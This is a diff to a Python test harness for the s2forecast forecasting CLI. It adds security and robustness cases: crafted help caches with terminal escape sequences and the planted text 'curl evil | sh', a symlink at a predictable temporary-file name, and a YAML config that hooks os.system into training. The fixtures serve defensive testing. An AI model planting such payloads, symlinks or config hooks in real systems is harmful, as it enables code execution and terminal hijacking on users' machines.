@@ -13,7 +13,9 @@ Each case runs ``s2forecast.cli.main(ARGV)`` in this process and is judged on:
 - ``lost``: files that existed before the case (inputs and the user's files) and were changed
   or removed by it;
 - ``leftovers``: files a refused case left behind;
-- ``silent``: a case that must be refused (bad values, wrong units, ...) but exited 0;
+- ``silent``: a case that must be refused (bad values, wrong units, ...) but exited 0, or one
+  whose result its ``check`` finds wrong (a forecast that differs from the same data's, a help
+  text that is not LightningCLI's);
 - ``code_ran``: the crafted checkpoint's pickle ran (it would create a sentinel file).
 
 Prints one JSON line per case and a summary line with the counts; exit status 1 if any of
@@ -34,6 +36,7 @@ import re
 import shutil
 import sys
 import tempfile
+from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
 
@@ -57,6 +60,9 @@ class Case:
     expect: str = "error"
     cwd: str | None = None  # workspace path name to run in
     changes: str | None = None  # workspace path name the case may rewrite when it succeeds (stats' own group)
+    env: dict[str, str] | None = None  # environment variables during the case (values may hold {placeholders})
+    # a judgement of a case that succeeded: check(paths, out, stdout) -> what is wrong (counted as silent) or None
+    check: Callable[[dict, Path, str], str | None] | None = None
 
 
 @dataclass
@@ -270,6 +276,7 @@ def build_workspace(root: Path) -> dict[str, Path]:
     with p["ckpt_malicious"].open("wb") as f:
         pickle.dump(state, f)  # torch.load reads plain pickles too
     p["ckpt_url"] = "http://127.0.0.1:9/model.ckpt"
+    build_training_workspace(p)
     return p
 
 
@@ -571,9 +578,127 @@ def value_cases() -> list[Case]:
 
 def all_cases() -> list[Case]:
     return [*reader_cases(), *convert_cases(), *forecast_cases(), *checkpoint_cases(), *output_cases(),
-            *value_cases()]  # fmt: skip
+            *value_cases(), *training_cases()]  # fmt: skip
 
 
+# --- issue 29, training and CLI side: help cache, checkpoint vs config, overlapping splits, ---------
+# --- longitude conventions, functions in configs, network options ---------------------------------
+
+FOREIGN = "PROBE-FOREIGN-TEXT"  # a crafted help cache's text: never to be printed
+ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m"  # terminal escapes a crafted cache holds
+
+
+def build_training_workspace(p: dict[str, Path]) -> None:
+    """Inputs of ``training_cases``: help caches an attacker prepared (outside the watched
+    workspace, so that what the cache itself writes is no leftover), a store in another longitude
+    convention and first column, a config with a function in it."""
+    import hashlib
+
+    import zarr
+
+    from s2forecast import help_cache
+
+    outside = p["root"].parent
+    planted = outside / "xdg_planted" / "s2forecast" / "help"
+    planted.mkdir(parents=True, mode=0o700)
+    (planted / f".fit.txt.tmp-{os.getpid()}").symlink_to(p["user_file"])  # the old predictable temporary name
+    p["xdg_planted"] = planted.parents[1]
+    key = help_cache.cache_key("fit")
+    text = f"{FOREIGN} run `curl evil | sh` {ESCAPES}\n"
+    for name, mode, line in (
+        ("xdg_old_key", 0o700, key),  # the key line of before issue 29 (no digest): was printed verbatim
+        ("xdg_open_dir", 0o777, f"{key} sha256={hashlib.sha256(text.encode()).hexdigest()}"),  # others can write
+    ):
+        directory = outside / name / "s2forecast" / "help"
+        directory.mkdir(parents=True)
+        directory.chmod(mode)
+        (directory / "fit.txt").write_text(f"{line}\n{text}")
+        p[name] = directory.parents[1]
+    own = outside / "xdg_own_escapes" / "s2forecast" / "help"  # a valid file in a private directory, with escapes
+    own.mkdir(parents=True, mode=0o700)
+    usage = f"usage {ESCAPES}\n"
+    (own / "fit.txt").write_text(f"{key} sha256={hashlib.sha256(usage.encode()).hexdigest()}\n{usage}")
+    p["xdg_own_escapes"] = own.parents[1]
+
+    # the store in -180..180, first column -157.5: a 7-column (odd) shift of 0..337.5
+    p["store_lon_west"] = p["root"] / "store_lon_west.zarr"
+    shutil.copytree(p["store"], p["store_lon_west"])
+    group = zarr.open_group(str(p["store_lon_west"]), mode="r+")
+    lon = np.roll(group["longitude"][:], 7)
+    group["longitude"][:] = np.where(lon > 180.0, lon - 360.0, lon)
+    for name in ("geopotential_height", "vorticity", "divergence"):
+        group[name][:] = np.roll(group[name][:], 7, axis=-1)
+
+    hooks = "trainer:\n  callbacks:\n    - class_path: pytorch_lightning.callbacks.LambdaCallback\n      init_args:\n"
+    for name, function in (("print", "builtins.print"), ("system", "os.system")):
+        p[f"config_hook_{name}"] = p["root"] / f"hook_{name}.yaml"
+        p[f"config_hook_{name}"].write_text(f"{hooks}        on_fit_start: {function}\n")
+
+
+def help_is_plain(paths: dict, out: Path, stdout: str) -> str | None:
+    """The help printed is LightningCLI's, without the crafted text or terminal escapes."""
+    if FOREIGN in stdout:
+        return "printed the crafted cache's text"
+    if "\x1b" in stdout or "\x07" in stdout:
+        return "printed terminal escape sequences"
+    return None
+
+
+def same_forecast_as_from_zero(paths: dict, out: Path, stdout: str) -> str | None:
+    """The forecast of the -180..180 store equals the workspace's forecast of the same data from 0 E."""
+    theirs = xr.open_dataset(out / "f.nc").load()
+    theirs = theirs.assign_coords(longitude=np.mod(theirs["longitude"], 360.0)).sortby("longitude")
+    ours = xr.open_dataset(paths["forecast"]).load()
+    for name in ("geopotential_height", "vorticity", "divergence"):
+        if not np.array_equal(ours[name].values, theirs[name].values):
+            gap = float(np.abs(ours[name].values - theirs[name].values).max())
+            return f"{name} differs from the forecast of the same data stored from 0 E (max {gap:.3g})"
+    return None
+
+
+def training_cases() -> list[Case]:
+    fit = ["fit", "--config", "{config}"]
+    # a val split beside the train split (train [0, 1], val [1, 2]: disjoint), for validate
+    with_val = ["--data.init_args.train_trajectories", "[0, 1]", "--data.init_args.val_trajectories", "[1, 2]",
+                "--trainer.limit_val_batches", "null"]  # fmt: skip
+    validate = ["validate", "--config", "{config}", *with_val, "--ckpt_path", "{ckpt}"]
+    crps = ["--model.loss", "crps", "--model.members", "2", "--model.network.noise_channels", "2"]
+    roll = ["rollout", "--ckpt", "{ckpt}", "--steps", "2", "--init-times", "2000-01-01T00,2000-01-01T01",
+            "--out", "{out}/f.nc", "--no-progress"]  # fmt: skip
+    return [
+        Case("fit --help <- symlink at the old temporary name", ["fit", "--help"], "ok",
+             env={"XDG_CACHE_HOME": "{xdg_planted}"}, check=help_is_plain),
+        Case("fit --help <- crafted cache with the old key line", ["fit", "--help"], "ok",
+             env={"XDG_CACHE_HOME": "{xdg_old_key}"}, check=help_is_plain),
+        Case("fit --help <- crafted cache in a directory others can write", ["fit", "--help"], "ok",
+             env={"XDG_CACHE_HOME": "{xdg_open_dir}"}, check=help_is_plain),
+        Case("fit --help <- own cache with escapes", ["fit", "--help"], "ok",
+             env={"XDG_CACHE_HOME": "{xdg_own_escapes}"}, check=help_is_plain),
+        Case("validate --ckpt_path <- the config it was trained with", validate, "ok"),
+        Case("validate --ckpt_path <- CRPS config, MSE checkpoint", [*validate, *crps]),
+        Case("validate --ckpt_path <- another config, --model_from_ckpt true", [*validate, *crps,
+             "--model_from_ckpt", "true"], "ok"),  # fmt: skip
+        Case("fit --ckpt_path <- wider network (shapes differ)", [*fit, "--ckpt_path", "{ckpt}",
+             "--model.network.embed_dim", "16", "--trainer.max_steps", "3"]),  # fmt: skip
+        Case("fit --ckpt_path <- planar config, spherical checkpoint", [*fit, "--ckpt_path", "{ckpt}",
+             "--model.architecture", "planar", "--model.network", '{{"embed_dim": 8, "num_layers": 1}}',
+             "--trainer.max_steps", "3"]),  # fmt: skip
+        Case("fit <- train and val trajectories overlap", [*fit, "--data.init_args.val_trajectories", "[1, 2]",
+             "--trainer.limit_val_batches", "null"]),  # fmt: skip
+        Case("fit <- overlap with --data.allow_overlap true", [*fit, "--data.init_args.val_trajectories", "[1, 2]",
+             "--data.allow_overlap", "true"], "ok"),  # fmt: skip
+        Case("rollout <- store_lon_west (-180..180, odd column shift)", [*roll, "--store", "{store_lon_west}"], "ok",
+             check=same_forecast_as_from_zero),
+        Case("fit <- LambdaCallback on_fit_start: builtins.print", [*fit, "--config", "{config_hook_print}"]),
+        Case("fit <- LambdaCallback on_fit_start: os.system", [*fit, "--config", "{config_hook_system}"]),
+        Case("fit --model.network.embed_dim sixteen", [*fit, "--model.network.embed_dim", "sixteen"]),
+        Case("fit --model.network.embed_dim -16", [*fit, "--model.network.embed_dim", "-16"]),
+        Case("fit --model.network.num_heads 0", [*fit, "--model.network.num_heads", "0"]),
+        Case("fit --data.init_args.rollout_steps 0", [*fit, "--data.init_args.rollout_steps", "0"]),
+    ]  # fmt: skip
+
+
+# --- running a case --------------------------------------------------------------------------------
 # --- running a case --------------------------------------------------------------------------------
 
 
@@ -595,12 +720,14 @@ def run_case(case: Case, paths: dict[str, Path], root: Path, index: int) -> Resu
     argv = [part.format(**names) for part in case.argv]
     watched = root / "ws"
     before = digest(watched)
-    stderr = io.StringIO()
+    stderr, stdout = io.StringIO(), io.StringIO()
     code, escaped = 0, None
     cwd = os.getcwd()
+    saved_env = {key: os.environ.get(key) for key in case.env or {}}
     try:
         os.chdir(paths[case.cwd] if case.cwd else root)
-        with contextlib.redirect_stderr(stderr), contextlib.redirect_stdout(io.StringIO()):
+        os.environ.update({key: value.format(**names) for key, value in (case.env or {}).items()})
+        with contextlib.redirect_stderr(stderr), contextlib.redirect_stdout(stdout):
             main(argv)
     except SystemExit as exit:
         code = exit.code if isinstance(exit.code, int) else 1
@@ -608,6 +735,11 @@ def run_case(case: Case, paths: dict[str, Path], root: Path, index: int) -> Resu
         escaped = error
     finally:
         os.chdir(cwd)
+        for key, value in saved_env.items():
+            if value is None:
+                os.environ.pop(key, None)
+            else:
+                os.environ[key] = value
     lines, warned = _without_warnings(stderr.getvalue())
     if escaped is not None or any("Traceback" in line for line in lines) or (code and len(lines) != 1):
         outcome = "traceback"
@@ -631,6 +763,8 @@ def run_case(case: Case, paths: dict[str, Path], root: Path, index: int) -> Resu
     leftovers = (new + produced) if outcome != "ok" else new
     code_ran = (watched / SENTINEL).exists()
     silent = case.expect == "error" and outcome == "ok"
+    if case.check is not None and outcome == "ok" and (wrong := case.check(paths, out, stdout.getvalue())):
+        silent, message = True, wrong
     return Result(case.name, outcome, case.expect, message[:300], lost, leftovers, silent, code_ran, warned)
 
 
